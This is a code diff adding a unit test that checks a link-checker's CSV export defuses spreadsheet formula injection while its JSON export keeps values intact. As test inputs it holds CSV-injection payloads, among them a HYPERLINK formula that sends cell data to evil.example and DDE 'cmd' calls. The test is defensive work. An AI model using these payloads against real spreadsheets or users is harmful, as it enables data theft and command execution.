@@ -149,6 +149,119 @@ TEST(ResultExportTest, CsvAndJsonReadBackByRealReaders) {
     EXPECT_EQ(bytes.substr(bytes.size() - 2), "\r\n");
 }
 
+// The first character of a JSON string as read_export.py prints it (ASCII
+// escapes), after the blanks a spreadsheet may skip: "=" or "\\t" or
+// "\\uff1d"; "" for an empty string or one of blanks only.
+std::string FirstAfterBlanks(const std::string& json, bool& leadingTabOrCr) {
+    leadingTabOrCr = json.rfind("\"\\t", 0) == 0 || json.rfind("\"\\r", 0) == 0;
+    size_t at = 1;
+    for (;;) {
+        if (json.compare(at, 1, " ") == 0) {
+            at += 1;
+        } else if (json.compare(at, 2, "\\t") == 0 || json.compare(at, 2, "\\r") == 0 ||
+                   json.compare(at, 2, "\\n") == 0) {
+            at += 2;
+        } else {
+            break;
+        }
+    }
+    if (at >= json.size() - 1) {
+        return {};
+    }
+    return json.substr(at, json[at] == '\\' ? (json[at + 1] == 'u' ? 6 : 2) : 1);
+}
+
+bool IsFormulaStart(const std::string& json) {
+    bool tabOrCr = false;
+    const std::string first = FirstAfterBlanks(json, tabOrCr);
+    for (const char* formula : {"=", "+", "-", "@", "\\uff1d", "\\uff0b", "\\uff0d", "\\uff20"}) {
+        if (first == formula) {
+            return true;
+        }
+    }
+    return tabOrCr;
+}
+
+// Texts from a hostile partner page (anchor text, link, headers, meta robots)
+// and from the profile (page, mail address) that a spreadsheet would run as a
+// formula: each CSV cell gets a leading apostrophe, JSON keeps the value.
+TEST(ResultExportTest, NoCsvCellStartsAFormula) {
+    struct Case {
+        const char* text;
+        bool formula;
+    };
+    const std::vector<Case> cases = {
+        {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", true},
+        {"+cmd|' /C calc'!A0", true},
+        {"-2+3+cmd|' /C calc'!A0", true},
+        {"@SUM(1+1)*cmd|' /C calc'!A0", true},
+        {"\t=1+1", true},
+        {"\r=1+1", true},
+        {"\tplain", true},
+        {"  =1+1", true},
+        {" \n@SUM(1)", true},
+        {"\xEF\xBC\x9D" "1+1", true},  // a fullwidth equals sign
+        {"\xEF\xBC\xA0" "SUM(1)", true},
+        {"a=1+1", false},
+        {"'=1+1", false},
+        {"http://www.example.com/", false},
+        {"", false},
+        {"   ", false},
+    };
+    test::TempDataFolder folder;
+    std::vector<ExportRow> rows;
+    for (const Case& c : cases) {
+        ExportRow row;
+        // The stored 8-bit texts are Windows-1252; the fullwidth signs exist
+        // only in the fetched (UTF-8) ones.
+        const bool ascii = std::string(c.text).find('\xEF') == std::string::npos;
+        row.m_strAdvertiser = ascii ? c.text : "";
+        row.m_strPage = ascii ? c.text : "";
+        row.m_strMail = ascii ? c.text : "";
+        row.m_strReason = ascii ? c.text : "";
+        row.m_strResult = "Link Found";
+        PageEvidence& e = row.m_evidence;
+        e.m_bChecked = true;
+        e.m_nHttpStatus = 200;
+        e.m_strFinalUrl = c.text;
+        e.m_strContentType = c.text;
+        e.m_bAnchorFound = true;
+        e.m_strHref = c.text;
+        e.m_strAnchorText = c.text;
+        e.m_strMetaRobots = c.text;
+        e.m_strXRobotsTag = c.text;
+        rows.push_back(row);
+    }
+    const std::string csvPath = folder.Root() + "/hostile.csv";
+    const std::string jsonPath = folder.Root() + "/hostile.json";
+    WriteExport(csvPath, rows, ExportKind::Csv);
+    WriteExport(jsonPath, rows, ExportKind::Json);
+    const auto csv = ReadBack("csv", csvPath, folder.Root());
+    const auto json = ReadBack("json", jsonPath, folder.Root());
+    ASSERT_EQ(csv.size(), cases.size());
+    ASSERT_EQ(json.size(), cases.size());
+    for (size_t i = 0; i < cases.size(); ++i) {
+        SCOPED_TRACE(cases[i].text);
+        const auto& c = csv.at(static_cast<int>(i));
+        const auto& j = json.at(static_cast<int>(i));
+        for (const auto& [key, value] : c) {
+            SCOPED_TRACE(key + " = " + value);
+            EXPECT_FALSE(IsFormulaStart(value));
+            const std::string& original = j.at(key);
+            if (original.empty() || original[0] != '"') {
+                continue;  // a number, flag or list in JSON
+            }
+            // The CSV cell is the JSON value, with the apostrophe when needed.
+            EXPECT_EQ(value, IsFormulaStart(original) ? "\"'" + original.substr(1) : original);
+        }
+        EXPECT_EQ(IsFormulaStart(j.at("anchor_text")), cases[i].formula);
+    }
+    EXPECT_EQ(json.at(0).at("anchor_text"),
+              R"x("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")")x");
+    EXPECT_EQ(csv.at(0).at("anchor_text"),
+              R"x("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")")x");
+}
+
 TEST(ResultExportTest, AnExportThatCannotBeWrittenThrows) {
     EXPECT_ANY_THROW(WriteExport("/nonexistent-folder/x.csv", SampleRows(), ExportKind::Csv));
 }
